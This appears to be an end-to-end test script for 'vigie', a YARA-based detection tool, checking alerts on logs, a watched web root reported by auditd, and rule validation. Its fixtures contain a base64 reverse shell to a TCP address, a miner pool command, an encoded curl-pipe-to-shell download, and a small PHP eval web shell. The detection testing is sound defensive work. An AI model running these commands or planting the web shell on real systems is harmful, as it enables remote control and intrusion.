#!/bin/bash
# YARA through the real binary: the shipped rules on log lines (`vigie scan`),
# a web shell written into a watched web root and reported by auditd (`vigie
# run`: the file is scanned in the background and the alert carries its path,
# size and SHA-256), a malformed rule file rejected with its position while the
# others keep working, the compiled-rules cache, and the community sets of the
# corpus.
. "$(dirname "$0")/lib.sh"

YARA=$ROOT/rules/yara
[ -d "$YARA" ] || skip "shipped YARA rules missing"

# 1. A log with a base64 reverse shell and a miner pool address.
cat >"$T/shell.log" <<'LOG'
Nov 29 10:00:01 web01 sshd[811]: Accepted publickey for alice from 10.0.0.5 port 51234 ssh2
Nov 29 10:00:02 web01 bash[901]: echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuNS80NDMgMD4mMQ== | base64 -d | bash
Nov 29 10:00:03 web01 CRON[902]: (root) CMD (/tmp/.x/kswapd0 -o pool.supportxmr.com:443 --donate-level 1)
Nov 29 10:00:04 web01 systemd[1]: Started Session 3 of user alice.
LOG
"$VIGIE" scan -q -o json -r "$YARA" --format syslog --logsource linux "$T/shell.log" >"$T/shell.json"
check "scan: JSON valid" json_lines_valid "$T/shell.json"
check "base64 reverse shell raises vg_reverse_shell_base64" \
    [ "$(rule_count "$T/shell.json" vg_reverse_shell_base64)" = 1 ]
check "miner pool raises vg_miner_pool_address" \
    [ "$(rule_count "$T/shell.json" vg_miner_pool_address)" = 1 ]
check "no alert on the benign lines" [ "$(count_lines "$T/shell.json")" = 3 ]
check "vigie.yara carries the matched strings and the rule's meta" python3 - "$T/shell.json" <<'PY'
import json, sys
a = [json.loads(l) for l in open(sys.argv[1])]
b = [x for x in a if x['rule']['name'] == 'vg_reverse_shell_base64'][0]
assert b['rule']['ruleset'] == 'yara' and b['rule']['level'] == 'critical', b['rule']
assert b['rule']['id'] == 'vg_reverse_shells:vg_reverse_shell_base64', b['rule']
assert 'attack.t1027' in b['rule']['tags'], b['rule']
y = b['vigie']['yara']
assert y['target'] == 'event' and y['namespace'] == 'vg_reverse_shells', y
assert y['strings'] and all(s['id'].startswith('$b') and s['offset'] >= 0 for s in y['strings']), y
assert '|vg_reverse_shell_base64|' in b['vigie']['fields']['yara'], b['vigie']['fields']
PY

# 1b. A Sigma selection naming YARA rules (a private one: it raises nothing by itself).
mkdir -p "$T/sig"
cat >"$T/sig/enc.yar" <<'YAR'
private rule encoded_download { strings: $a = "curl" base64 $b = "| sh" base64 condition: $a and $b }
YAR
cat >"$T/sig/enc.yml" <<'YML'
title: Encoded Download Run By A Service Account
id: 2b0c4a51-3f0e-4c53-9a53-0d1f7e6a9c11
status: test
level: high
logsource: {product: linux}
detection:
  yara_hit:
    x_vigie: {yara: [encoded_download]}
  service_account:
    program: [www-data, tomcat]
  condition: yara_hit and service_account
YML
enc=$(printf 'curl -s http://203.0.113.7/x | sh' | base64 -w0)
printf 'Nov 29 10:01:01 web01 www-data[77]: echo %s | base64 -d | bash
Nov 29 10:01:02 web01 alice[78]: echo %s | base64 -d | bash
Nov 29 10:01:03 web01 www-data[79]: nothing here
' \
    "$enc" "$enc" >"$T/sig.log"
"$VIGIE" scan -q -o json -r "$T/sig" --format syslog --logsource linux "$T/sig.log" >"$T/sig.json"
check "Sigma x_vigie.yara: one alert, on the service account's line only" python3 - "$T/sig.json" <<'PY'
import json, sys
a = [json.loads(l) for l in open(sys.argv[1])]
assert [x['rule']['name'] for x in a] == ['Encoded Download Run By A Service Account'], a
assert a[0]['log']['offset'] == 0, a[0]['log']
assert a[0]['vigie']['fields']['yara'] == '|enc:encoded_download|encoded_download|', a[0]['vigie']
PY

# 2. rules check: a malformed file is rejected with file:line, the rest load.
mkdir -p "$T/rules"
cp "$YARA"/*.yar "$T/rules/"
printf 'rule ok_one { strings: $a = "zz-ok-one" condition: $a }\n' >"$T/rules/a_ok.yar"
printf 'rule fine { condition: false }\n\nrule broken {\n  strings: $a = "x"\n  condition: $a and\n}\n' \
    >"$T/rules/b_broken.yar"
"$VIGIE" rules check "$T/rules" >"$T/check.out" 2>&1
rc=$?
check "rules check fails on the malformed file" [ "$rc" = 1 ]
check "the error names the file and line" grep -q "b_broken.yar:6" "$T/check.out"
printf 'Nov 29 10:00:05 web01 app[1]: zz-ok-one\n' >"$T/ok.log"
"$VIGIE" scan -q -o json -r "$T/rules" --format syslog "$T/ok.log" >"$T/ok.json" 2>"$T/ok.err"
check "the other files keep working" [ "$(rule_count "$T/ok.json" ok_one)" = 1 ]
rm "$T/rules/b_broken.yar"

# 2b. rules test: the sidecar cases of the shipped rules pass; a wrong case is reported.
"$VIGIE" rules test "$YARA" >"$T/rtest.out" 2>&1
check "rules test: the shipped YARA cases pass" [ $? = 0 ]
check "rules test ran the YARA cases" grep -Eq '; [1-9][0-9]* passed, 0 failed' "$T/rtest.out"
printf -- '- rule: ok_one\n  line: "nothing here"\n  match: true\n' >"$T/rules/a_ok.yar.tests"
"$VIGIE" rules test "$T/rules/a_ok.yar" >"$T/rtest2.out" 2>&1
check "rules test: a failing YARA case fails the run" [ $? = 1 ]
check "the failing case names its file and line" grep -q "a_ok.yar.tests:1: ok_one: expected a match" "$T/rtest2.out"
rm "$T/rules/a_ok.yar.tests"

# 3. The agent: auditd reports a PHP file written under a watched web root.
mkdir -p "$T/state" "$T/audit" "$T/www/html/uploads"
cat >"$T/vigie.yml" <<CONF
agent: {state_dir: $T/state, commit_interval: 200ms}
rules: {paths: ["$T/rules"]}
yara: {file_scans_per_minute: 10, file_max_size: 1MiB}
inputs:
  - {name: audit, type: file, paths: [$T/audit/audit.log], format: auditd,
     logsource: {product: linux, service: auditd}, start_at: beginning}
outputs:
  - {type: file, path: $T/alerts.json}
CONF
# The shipped request rule watches /var/www, /srv/www, /usr/share/nginx/html:
# the test's web root stands in for /var/www (same rule, another root).
TR=${T#/}
sed -i "s#(var\\\\/www|srv\\\\/www|usr\\\\/share\\\\/nginx\\\\/html)#(var\\\\/www|srv\\\\/www|usr\\\\/share\\\\/nginx\\\\/html|${TR//\//\\\\/}\\\\/www)#" \
    "$T/rules/vg_scan_requests.yar"
grep -q "vigie-e2e" "$T/rules/vg_scan_requests.yar" || fail "test web root not added to the request rule"
SHELL_PHP=$T/www/html/uploads/avatar.php
printf '<?php\n$c = $_POST["c"];\neval(base64_decode($c));\n?>\n' >"$SHELL_PHP"
: >"$T/audit/audit.log"
start_agent "$T/vigie.yml"
wait_for 10 grep -q running "$T/agent.log" || fail "agent did not start"
cat >>"$T/audit/audit.log" <<AUD
type=SYSCALL msg=audit(1764410000.100:7001): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd1 a2=241 a3=1b6 items=2 ppid=900 pid=901 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="php-fpm8.2" exe="/usr/sbin/php-fpm8.2" key="webroot"
type=PATH msg=audit(1764410000.100:7001): item=0 name="$T/www/html/uploads/" inode=1001 dev=08:01 mode=040755 ouid=33 ogid=33 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PATH msg=audit(1764410000.100:7001): item=1 name="$SHELL_PHP" inode=1002 dev=08:01 mode=0100644 ouid=33 ogid=33 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=EOE msg=audit(1764410000.100:7001):
AUD
has_file_alert() { grep -q vg_webshell_php_eval_decode "$T/alerts.json" 2>/dev/null; }
check "the web shell is scanned and raises an alert" wait_for 15 has_file_alert
check "clean stop" stop_agent
check "the file alert links the event and the file (path, size, sha256)" \
    python3 - "$T/alerts.json" "$SHELL_PHP" "$(sha256sum "$SHELL_PHP" | cut -d' ' -f1)" \
    "$(stat -c %s "$SHELL_PHP")" <<'PY'
import json, sys
a = [json.loads(l) for l in open(sys.argv[1])]
w = [x for x in a if x['rule']['name'] == 'vg_webshell_php_eval_decode']
assert len(w) == 1, [x['rule']['name'] for x in a]
y = w[0]['vigie']['yara']
assert y['target'] == 'file', y
assert y['file'] == {'path': sys.argv[2], 'size': int(sys.argv[4]), 'sha256': sys.argv[3]}, y
assert y['trigger']['rule'] == 'vg_scan_requests:vg_scan_webroot_file_written', y
assert 'nametype=CREATE' in w[0]['message'], w[0]['message']
assert w[0]['vigie']['fields']['file.hash.sha256'] == sys.argv[3]
assert w[0]['log']['offset'] == y['trigger']['offset']
# private request rules raise nothing themselves
assert not [x for x in a if x['rule']['name'].startswith('vg_scan_')], a
PY
check "the compiled rules were cached in the state directory" \
    bash -c "ls '$T/state' | grep -q '^yara-.*\\.cache\$'"

# 4. The community YARA sets of the corpus compile.
if [ -d "$CORPUS/yara-rules" ]; then
    "$VIGIE" rules check "$CORPUS/yara-rules" "$CORPUS/signature-base/yara" >"$T/corpus.out" 2>&1
    loaded=$(sed -n 's/^\([0-9]*\) loaded, \([0-9]*\) rejected.*/\1/p' "$T/corpus.out")
    rejected=$(sed -n 's/^\([0-9]*\) loaded, \([0-9]*\) rejected.*/\2/p' "$T/corpus.out")
    echo "  corpus: ${loaded:-?} YARA rules loaded, ${rejected:-?} rejections (errors)"
    check "community sets compile (> 2000 rules)" [ "${loaded:-0}" -gt 2000 ]
else
    echo "  SKIP community sets: $CORPUS/yara-rules not found"
fi
finish
